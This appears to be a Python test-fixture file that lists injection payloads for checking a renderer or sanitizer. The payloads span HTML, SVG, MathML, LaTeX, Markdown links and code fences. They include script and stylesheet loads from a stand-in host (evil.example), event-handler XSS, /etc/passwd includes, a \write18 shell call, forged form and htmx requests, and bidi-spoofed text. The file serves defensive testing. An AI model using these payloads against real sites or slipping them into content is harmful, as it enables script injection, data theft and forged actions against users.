"""Texts written to do harm, our own. Whatever they say may be read; nothing of it may act or load."""

MARKUP = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.png>",
    "<iframe src=javascript:alert(1)></iframe><object data=x></object><embed src=x>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<style>body{display:none}</style><link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example/x.css'; * { background: url(//evil.example/y) }</style>",
    "<form action=/claims/1/verdict method=post><button name=preference value=left-3>ok</button></form>",
    "<base href=//evil.example><meta http-equiv=refresh content=0>",
    "<body onload=alert(1)><details open ontoggle=alert(1)>x</details><input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<a href=javascript:alert(1)>x</a> <a href='data:text/html,<script>alert(1)</script>'>y</a>",
    "<a href='//evil.example' target=_blank rel=opener ping=//evil.example>x</a>",
    "<div style='position:fixed;inset:0'><p id=ballot name=preference class=dock>",
    "<form name=body id=evidence><input name=submit></form><a id=keys></a><a id=keys name=showModal></a>",
    "<button hx-post=/campaigns/x/settings/ hx-trigger=load>x</button><div hx-get=/tokens/ hx-trigger=revealed>",
    "<button data-key=s data-opens-keys data-submit>press me</button><div data-draft data-lease=x>",
    "<template shadowrootmode=open><script>alert(1)</script></template><slot>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<b><i><u>unclosed <table><tr><td>",
    "</main></body></html><!-- <p> --><![CDATA[x]]><?php echo 1 ?>",
    "</textarea></title></script></style></pre><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>--> <!-- --!><img src=x onerror=alert(1)>",
    "{{ 7 * 7 }} {% debug %} {% include '/etc/passwd' %} ${alert(1)} #{alert(1)} [[${1}]]",
    "%3Cscript%3Ealert(1)%3C/script%3E &lt;script&gt;alert(1)&lt;/script&gt; \\u003cscript\\u003ealert(1)",
]

SVG = [
    "<svg/onload=alert(1)><svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s><set onend=alert(1)></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zy8+#x'/><image href=//evil.example/x onerror=alert(1)></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
]

MATHML = [
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math><mi><mglyph src=//evil.example/x></mglyph></mi><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
]

LATEX = [
    r"$\text{</math><script>alert(1)</script>}$ $\href{javascript:alert(1)}{x}$ $\style{color:red}{x}$",
    r"$\class{x onload=alert(1)}{y}$ $\color{red;background:url(//e.example)}{x}$ \(<img src=x onerror=alert(1)>\)",
    r"$$\unicode{x3cscript}\url{javascript:alert(1)}$$ $\html{<img src=x onerror=alert(1)>}$",
    r"\[ \input{/etc/passwd} \write18{id} \def\x{\x\x}\x \newcommand{\y}{\y}\y \]",
    r"$\mathbf{<svg onload=alert(1)>}$ $x_{<b>}^{</b>}$ $\operatorname{<script>alert(1)</script>}$",
    r"$\begin{array}{<img src=x onerror=alert(1)>} a \end{array}$ $\cssId{ballot}{x}$",
]

LINKS = [
    "[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](java&#10;script:alert(1)) [x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=) ![x](data:image/svg+xml;base64,PHN2Zz4=) [x](vbscript:x) [x](file:///etc/passwd)",
    "[x](https://a.example 'title\" onmouseover=alert(1) x=\"')",
    '![x" onerror="alert(1)](https://a.example/"onload="alert(1))',
    "![a picture](https://evil.example/pixel.png) ![](//evil.example/pixel.png)",
    '<https://a.example/"onclick=alert(1)> <javascript:alert(1)>',
    "[ref]: javascript:alert(1)\n\n[ref] [^1]\n\n[^1]: <script>x</script>",
    "[x](\x01javascript:alert(1)) [x](\tjavascript:alert(1)) [x](<java\tscript:alert(1)>) [x](blob:https://a.example/1)",
    "[x](https://a.example@evil.example/) [your bank](https://xn--80ak6aa92e.example/) [x](//evil.example)",
    'https://a.example/<script>alert(1)</script> www.a.example/"onmouseover=alert(1) mailto:x@y.example?body=<b>',
]

FENCES = [
    '```"><script>alert(1)</script>\nx\n```',
    "```py onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "```html\n<img src=x onerror=alert(1)>\n```",
    '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"] --> B; click A href "javascript:alert(1)"\n```',
    "~~~<svg/onload=alert(1)>\n~~~\n\n    </pre><script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> | [x](javascript:x) |\n|---|---|\n| </table><script>x</script> | y |",
    "# <script>alert(1)</script>\n\n- [ ] <img src=x onerror=alert(1)>\n\n> <svg/onload=alert(1)>",
    "\u202e)1(trela:tpircsavaj\u202c \u2066x\u2069 a\u0301\u0489\u200b\ufeff \u2028<script>alert(1)</script>\u2029",
]

HOSTILE = [*MARKUP, *SVG, *MATHML, *LATEX, *LINKS, *FENCES]
